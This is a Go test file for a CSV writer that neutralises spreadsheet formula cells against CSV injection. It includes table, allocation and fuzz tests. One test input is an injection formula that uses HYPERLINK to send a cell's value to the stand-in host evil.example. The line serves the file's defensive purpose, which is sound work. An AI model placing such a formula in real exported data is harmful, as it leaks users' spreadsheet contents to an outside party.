package csvsafe

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"
)

func encodingCSV(t testing.TB, fields ...string) []byte {
	var b bytes.Buffer
	w := csv.NewWriter(&b)
	if err := w.Write(fields); err != nil {
		t.Fatal(err)
	}
	w.Flush()
	return b.Bytes()
}

// TestFormulaCellsAreNeutralised: a cell that a spreadsheet would run as a formula is written with a
// quote in front, by the Writer and by AppendField alike; other cells are untouched.
func TestFormulaCellsAreNeutralised(t *testing.T) {
	for in, want := range map[string]string{
		`=HYPERLINK("http://evil.example/?leak="&A1,"Q3.xlsx")`: `"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Q3.xlsx"")"`,
		"=1+1":       "'=1+1",
		"+1":         "'+1",
		"-2":         "'-2",
		"@SUM(A1)":   "'@SUM(A1)",
		"\tcmd":      "'\tcmd",
		"\r=x":       "\"'\r=x\"",
		"plain":      "plain",
		"a=b":        "a=b",
		" =x":        `" =x"`,
		"'=already":  "'=already",
		"":           "",
		"ünï=":       "ünï=",
		"-":          "'-",
		"=a,b":       `"'=a,b"`,
		"report.pdf": "report.pdf",
	} {
		var b bytes.Buffer
		w := NewWriter(&b)
		if err := w.Write([]string{in}); err != nil {
			t.Fatal(err)
		}
		w.Flush()
		if got := strings.TrimSuffix(b.String(), "\n"); got != want {
			t.Errorf("Writer %q: got %q, want %q", in, got, want)
		}
		if got := string(AppendField(nil, in)); got != want {
			t.Errorf("AppendField %q: got %q, want %q", in, got, want)
		}
		if got := Unneutralize(Cell(in)); got != in && in != "'=already" { // the one ambiguous form

			t.Errorf("Unneutralize(Cell(%q)) = %q", in, got)
		}
	}
	if Cell(Cell("=x")) != "'=x" {
		t.Errorf("Cell is not idempotent: %q", Cell(Cell("=x")))
	}
	rec := []string{"a", "=b"}
	if out := Record(rec); out[1] != "'=b" || rec[1] != "=b" {
		t.Errorf("Record changed its input or missed a cell: %q %q", out, rec)
	}
}

// TestCellDoesNotAllocate: the export calls AppendField for most of its cells; the common case must
// stay an append.
func TestCellDoesNotAllocate(t *testing.T) {
	b := make([]byte, 0, 256)
	if n := testing.AllocsPerRun(100, func() { b = AppendField(b[:0], "quarterly report.xlsx") }); n != 0 {
		t.Errorf("AppendField allocates %v times for a plain cell", n)
	}
	if n := testing.AllocsPerRun(100, func() { _ = Cell("plain") }); n != 0 {
		t.Errorf("Cell allocates %v times for a plain cell", n)
	}
}

func FuzzAppendField(f *testing.F) {
	for _, s := range []string{"", "plain", `q"uote`, "new\nline", " sp", `\.`, "\u0085next", "a,b", "=x", "-1", "\t", "\r\n", "'=x", "=\\."} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		got := append(AppendField(nil, s), '\n')
		if want := encodingCSV(t, Cell(s)); !bytes.Equal(got, want) {
			t.Fatalf("%q: got %q, encoding/csv of the neutralised cell %q", s, got, want)
		}
		rd := csv.NewReader(bytes.NewReader(got))
		rec, err := rd.Read()
		if err == nil && len(rec) == 1 && Risky(rec[0]) {
			t.Fatalf("%q reads back as %q, which a spreadsheet runs as a formula", s, rec[0])
		}
	})
}
